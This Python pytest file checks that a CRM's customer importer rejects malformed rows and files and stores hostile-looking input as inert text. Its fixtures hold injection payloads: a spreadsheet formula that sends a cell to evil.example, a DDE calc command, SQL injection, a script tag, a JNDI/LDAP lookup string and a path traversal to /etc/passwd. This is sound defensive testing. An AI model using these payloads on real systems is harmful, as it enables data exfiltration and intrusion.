"""The bad-input corpus (``tests/data/bad_input``): each file's bad rows are rejected with
their line and reason while its good rows land, and a re-run duplicates nothing; a file
that cannot be a customer file is one clear error (exit code 2, no traceback). Files that
would be large (a 200 KB field, a 140 KB header) are written by the tests."""

from __future__ import annotations

import os
import random
import string
import traceback
from pathlib import Path

import geopandas as gpd
import pytest
from shapely.geometry import Point

from geocrm import settings
from geocrm.cli import main
from geocrm.errors import InvalidInput
from geocrm.ingest import (
    FIELD_MAX_CHARS,
    MAX_HEADER_CHARS,
    MAX_LINE_CHARS,
    import_customers,
    open_customer_file,
    rejects,
)
from tests.ingest.customer_files import STATION, customers_like

CORPUS = Path(__file__).resolve().parent.parent / "data" / "bad_input"
HEADER = "external_id,name,stage,lat,lon\n"
AT = f"{STATION[0]},{STATION[1]}"

#: file -> (prefix of its ids, {id: name as stored} of the rows that land,
#: {line: what its reason says} of the rows rejected)
ROWS: dict[str, tuple[str, dict[str, str], dict[int, str]]] = {
    "nul.csv": (
        "T-nul-",
        {"T-nul-ok1": "Good One", "T-nul-ok2": "Good Two"},
        {3: "name contains a NUL character"},
    ),
    "rtl_override.csv": (
        "T-rtl-",
        # a name keeps its text (right-to-left scripts, even an override); an id may not
        {"T-rtl-ok1": "\u202eevil.exe\u202c Oy", "T-rtl-ok2": "שלום مرحبا"},
        {3: "external_id contains control or bidirectional-override characters"},
    ),
    "emoji.csv": (
        "T-emoji-",
        {
            "T-emoji-ok1": "Kahvila ☕🍩",
            "T-emoji-🙂": "Emoji Id",
            "T-emoji-ok3": "👨\u200d👩\u200d👧 Family",
        },
        {},
    ),
    # formula-like names are data; the exports neutralise them (not the import's job)
    "formulas.csv": (
        "T-formula-",
        {
            "T-formula-1": '=HYPERLINK("http://evil.example/?d="&A1,"x")',
            "T-formula-2": "+cmd|' /C calc'!A0",
            "T-formula-3": "@SUM(1)",
            "T-formula-4": "-2+3",
        },
        {},
    ),
    "injection.csv": (
        "T-inj-",
        {
            "T-inj-1": "'; DROP TABLE crm.customers; --",
            "T-inj-2": "<script>alert(1)</script>",
            "T-inj-3": "{{7*7}} ${jndi:ldap://evil.example/a}",
            "T-inj-4": "../../etc/passwd",
            "T-inj-5": "Robert'); DROP TABLE Students;--",
        },
        {},
    ),
    "nan_text.csv": (
        "T-nan-",
        {"T-nan-ok": "Good"},
        {
            3: "lat 'NaN' is not a number; lon 'Infinity' is not a number",
            4: "lat '1e308' is not a number",
            5: "lat 95 is outside -90..90",
            6: "lon '-Infinity' is not a number",
        },
    ),
    "nan_infinity.geojson": (
        "T-gnan-",
        {"T-gnan-ok": "T-gnan-ok"},
        {
            2: "geometry is empty or has non-finite coordinates (NaN, Infinity)",
            3: "geometry has non-finite coordinates (NaN, Infinity)",
            4: "geometry has non-finite coordinates (NaN, Infinity)",
            5: "geometry point (1e+308, 95) is outside lon -180..180, lat -90..90",
            6: "geometry point (190, 60.17) is outside lon -180..180, lat -90..90",
        },
    ),
    "wrong_geometry.geojson": (
        "T-gwrong-",
        {"T-gwrong-ok": "T-gwrong-ok", "T-gwrong-ok2": "T-gwrong-ok2"},  # ok2: a MultiPoint of 1
        {
            2: "geometry is a LineString, not a Point",
            3: "geometry is a Polygon, not a Point",
            4: "geometry is a MultiPoint, not a Point",
            5: "geometry is a GeometryCollection, not a Point",
            6: "no address and no coordinates: the customer cannot be placed",
        },
    ),
    "duplicated_header.csv": (
        "T-duphead-",
        {"T-duphead-ok1": "Good", "T-duphead-ok2": "Good Too"},
        {3: "the header row again (files joined together?)"},
    ),
    "bom_crlf.csv": ("T-bom-", {"T-bom-1": "Good", "T-bom-2": "Two\r\nLines"}, {}),
    "mixed_encoding.csv": (
        "T-mixed-",
        {"T-mixed-ok1": "Järvinen", "T-mixed-ok2": "Öhman"},
        {3: "name is not valid UTF-8 text"},
    ),
    "only_header.csv": ("T-onlyheader-", {}, {}),
}

#: file -> what its one error says
FILE_ERRORS = {
    "empty.csv": "empty.csv is empty: no header row",
    "latin1.csv": "latin1.csv is not UTF-8 text (byte 0xe4 on line 2)",
    "utf16.csv": "utf16.csv is UTF-16 text",
    "binary.csv": "binary.csv is not UTF-8 text",
    "duplicate_columns.csv": "the header names column 'name' twice",
    "not_json.geojson": "not_json.geojson cannot be read as geojson",
}


def _check_landed_and_rejected(engine, report, prefix, landed, rejected) -> None:
    got = {k: v["name"] for k, v in customers_like(engine, prefix).items()}
    assert got == landed
    reasons = {r["line"]: r["reason"] for r in rejects(engine, report.import_id)}
    assert reasons.keys() == rejected.keys()
    for line, reason in rejected.items():
        assert reasons[line].startswith(reason), (line, reasons[line])
    assert (report.inserted, report.rejected) == (len(landed), len(rejected))


@pytest.mark.parametrize("name", sorted(ROWS))
def test_bad_rows_are_rejected_with_line_and_reason_and_the_good_rows_land(
    engine, city, clean, name
):
    prefix, landed, rejected = ROWS[name]
    report = import_customers(engine, CORPUS / name, progress=False)
    _check_landed_and_rejected(engine, report, prefix, landed, rejected)
    if rejected:
        assert report.rejects_file is not None and report.rejects_file.is_file()
    again = import_customers(engine, CORPUS / name, progress=False)  # nothing duplicated
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, len(landed))
    assert again.rejected == len(rejected)
    assert len(customers_like(engine, prefix)) == len(landed)


@pytest.mark.parametrize("name", sorted(FILE_ERRORS))
def test_a_file_that_is_no_customer_file_is_one_clear_error(engine, name):
    with pytest.raises(InvalidInput) as caught:
        import_customers(engine, CORPUS / name, progress=False)
    assert FILE_ERRORS[name] in str(caught.value)
    assert str(CORPUS) not in str(caught.value)  # the file's name, never its place


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


def test_oversized_fields_are_rejected_per_row_and_kept_cut_to_their_limit(
    engine, city, clean, tmp_path
):
    random_id = "T-" + "".join(random.Random(7).choices(string.ascii_letters, k=10_000))
    rows = [
        f"T-big-ok1,Good,customer,{AT}",
        f"T-big-name,{'n' * 501},customer,{AT}",  # line 3
        f"{random_id},Random 10 KB id,customer,{AT}",  # line 4: beyond what an index holds
        f"T-big-stage,Stage,{'s' * 201},{AT}",  # line 5
        f"T-big-field,{'x' * 200_000},customer,{AT}",  # line 6: longer than a line may be
        f"T-big-ok2,{'m' * FIELD_MAX_CHARS['name']},customer,{AT}",  # at the limit: lands
    ]
    path = _write(tmp_path / "oversized.csv", HEADER + "\n".join(rows) + "\n")
    report = import_customers(engine, path, progress=False)
    _check_landed_and_rejected(
        engine,
        report,
        "T-big-",
        {"T-big-ok1": "Good", "T-big-ok2": "m" * 500},
        {
            3: "name is 501 characters long; the limit is 500",
            4: "external_id is 10,002 characters long; the limit is 200",
            5: "stage is 201 characters long; the limit is 200",
            6: f"line 6 is longer than {MAX_LINE_CHARS:,} characters (the rest of it was not "
            "read); expected 5 fields, found 2",
        },
    )
    kept = {r["line"]: r for r in rejects(engine, report.import_id)}
    assert kept[4]["external_id"] == random_id[:200]  # the quarantine holds it cut
    assert len(kept[6]["raw"]["name"]) == FIELD_MAX_CHARS["name"]
    again = import_customers(engine, path, progress=False)
    assert (again.inserted, again.unchanged, again.rejected) == (0, 2, 4)


def test_a_header_over_the_limit_is_one_clear_error(engine, tmp_path):
    path = _write(tmp_path / "wide.csv", "external_id,name," + "c" * 140_000 + "\nT-wide,Wide,x\n")
    with pytest.raises(InvalidInput, match=f"header line is longer than {MAX_HEADER_CHARS:,}"):
        import_customers(engine, path, progress=False)


def test_a_nul_in_a_geoparquet_value_rejects_its_row(engine, city, clean, tmp_path):
    frame = gpd.GeoDataFrame(
        {"external_id": ["T-pq-ok", "T-pq-bad"], "name": ["Good", "Bad\x00Name"]},
        geometry=[Point(STATION[1], STATION[0])] * 2,
        crs="EPSG:4326",
    )
    frame.to_parquet(tmp_path / "nul.parquet")
    report = import_customers(engine, tmp_path / "nul.parquet", progress=False)
    _check_landed_and_rejected(
        engine, report, "T-pq-", {"T-pq-ok": "Good"}, {2: "name contains a NUL character"}
    )


def test_the_command_line_says_one_line_and_exits_2_for_a_bad_file_never_7(
    engine, city, clean, use_database, capsys, tmp_path
):
    for name in sorted(FILE_ERRORS):
        assert main(["import", "customers", str(CORPUS / name)]) == 2, name
        err = capsys.readouterr().err
        assert err.startswith("geocrm: error: ") and err.count("\n") == 1, err
        assert "Traceback" not in err
    # a row the database could not have indexed is a reject: exit 0, the good row lands
    random_id = "T-" + "".join(random.Random(8).choices(string.ascii_letters, k=10_000))
    path = _write(
        tmp_path / "ids.csv", HEADER + f"T-cli-ok,Good,customer,{AT}\n{random_id},X,,{AT}\n"
    )
    assert main(["import", "customers", str(path)]) == 0
    assert "1 imported" in capsys.readouterr().out
    assert customers_like(engine, "T-cli-")


@pytest.fixture
def geocrm_home(tmp_path, monkeypatch):
    """GEOCRM_HOME in a directory of the test's own."""
    home = tmp_path / "home"
    monkeypatch.setenv("GEOCRM_HOME", str(home))
    settings.database_settings.cache_clear()
    yield home
    settings.database_settings.cache_clear()


def test_rejects_reports_live_under_geocrm_home_with_names_of_their_own(
    engine, city, clean, geocrm_home
):
    first = import_customers(engine, CORPUS / "nul.csv", progress=False)
    second = import_customers(engine, CORPUS / "nul.csv", progress=False)
    for report in (first, second):
        assert report.rejects_file.parent == geocrm_home / "imports" / "rejects"
        assert report.rejects_file.stat().st_mode & 0o777 == 0o600
        assert f"import-{report.import_id}-" in report.rejects_file.name
    assert (geocrm_home / "imports").stat().st_mode & 0o777 == 0o700
    assert first.rejects_file != second.rejects_file
    assert "name contains a NUL character" in first.rejects_file.read_text()


def test_no_traceback_escapes_a_reader(tmp_path):
    """Every corpus file, as a reader meets it: rows or InvalidInput, nothing else."""
    for path in sorted(CORPUS.iterdir()):
        try:
            _, _, rows = open_customer_file(path)
            list(rows)
        except InvalidInput:
            pass
        except Exception:  # pragma: no cover - the failure message shows what escaped
            pytest.fail(f"{path.name}: {traceback.format_exc()}")
    assert os.listdir(CORPUS)
